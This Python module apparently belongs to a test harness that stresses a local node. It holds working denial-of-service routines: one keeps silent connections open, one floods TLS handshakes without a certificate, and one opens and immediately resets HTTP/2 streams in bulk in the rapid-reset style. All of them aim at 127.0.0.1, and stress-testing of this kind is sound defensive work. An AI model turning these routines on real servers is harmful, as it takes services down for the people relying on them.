"""What somebody can do at a node's door without being let in: hold it, fail at it, or begin calls and break them off.

Each attack is a role of a `Crew`. It goes on until its parent has enough, and then says how much it did.
"""

from __future__ import annotations

import select
import socket
import ssl
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager, suppress
from dataclasses import dataclass
from multiprocessing.connection import Connection

from attacks.frames import Fields, Frames, acknowledged, begun, context, hello, reset

_PATIENCE = 2.0
_AT_ONCE = 50
_SECOND = 1.0


@dataclass(frozen=True)
class Door:
    """Where to knock, from which address (on Linux any of 127.0.0.0/8), and whose certificate to show."""

    port: int
    source: str
    authority: bytes
    certificate: str = ""
    key: str = ""

    def knock(self) -> socket.socket:
        return socket.create_connection(("127.0.0.1", self.port), _PATIENCE, (self.source, 0))


def hold(report: Connection, door: Door, connections: int) -> None:
    """Open connections that say nothing, and a new one for each that is closed."""
    with ExitStack() as held:
        silent = [held.enter_context(door.knock()) for _ in range(connections)]
        for done in _each_second(report):
            closed = [one for one in silent if _is_closed(one)]
            for one in closed:
                silent.remove(one)
                one.close()
                with suppress(OSError):
                    silent.append(held.enter_context(door.knock()))
            done(len(closed))


def fail(report: Connection, door: Door) -> None:
    """Begin to shake hands, without a certificate, as fast as it goes."""
    nobody = ssl.create_default_context(cadata=door.authority.decode())
    nobody.set_alpn_protocols(["h2"])
    for done in _as_fast_as_it_goes(report):
        with suppress(OSError), door.knock() as raw, nobody.wrap_socket(raw, server_hostname="a") as wire:
            wire.recv(1)
        done(1)


def break_off(report: Connection, door: Door, method: str, fields: Fields, connections: int) -> None:
    """Begin calls and reset them at once, over some connections, made anew when they are closed."""
    own = context(door.authority, door.certificate, door.key)
    lines: list[_Line] = []
    with ExitStack() as held:
        for done in _as_fast_as_it_goes(report):
            if len(lines) < connections:
                with suppress(OSError):
                    raw = held.enter_context(door.knock())
                    lines.append(_Line(held.enter_context(own.wrap_socket(raw, server_hostname="a"))))
            for line in list(lines):
                try:
                    done(line.push(method, fields))
                except OSError:
                    lines.remove(line)


class _Line:
    """One connection. It never waits for the node."""

    def __init__(self, wire: ssl.SSLSocket) -> None:
        self._wire = wire
        self._frames = Frames()
        self._stream = 1
        self._unsent = hello()
        wire.setblocking(False)

    def push(self, method: str, fields: Fields) -> int:
        """Go on with what the node takes now. The calls that were begun."""
        self._answer()
        calls = 0
        if not self._unsent:
            for _ in range(_AT_ONCE):
                self._unsent += begun(self._stream, method, fields) + reset(self._stream)
                self._stream += 2
            calls = _AT_ONCE
        if select.select([], [self._wire], [], 0.01)[1]:
            with suppress(ssl.SSLWantReadError, ssl.SSLWantWriteError):
                self._unsent = self._unsent[self._wire.send(self._unsent) :]
        return calls

    def _answer(self) -> None:
        with suppress(ssl.SSLWantReadError, ssl.SSLWantWriteError):
            while True:
                if not (more := self._wire.recv(1 << 16)):
                    raise ConnectionError
                self._unsent += b"".join(map(acknowledged, self._frames(more)))


Done = Callable[[int], None]


def _each_second(report: Connection) -> Iterator[Done]:
    with _telling(report) as done:
        while not report.poll(_SECOND):
            yield done


def _as_fast_as_it_goes(report: Connection) -> Iterator[Done]:
    with _telling(report) as done:
        while not report.poll():
            yield done


@contextmanager
def _telling(report: Connection) -> Iterator[Done]:
    """Says that it begins, and in the end how much was done."""
    report.send("begun")
    total = 0

    def done(more: int) -> None:
        nonlocal total
        total += more

    yield done
    report.recv()
    report.send(total)


def _is_closed(silent: socket.socket) -> bool:
    try:
        return not silent.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT)
    except BlockingIOError:
        return False
    except OSError:
        return True
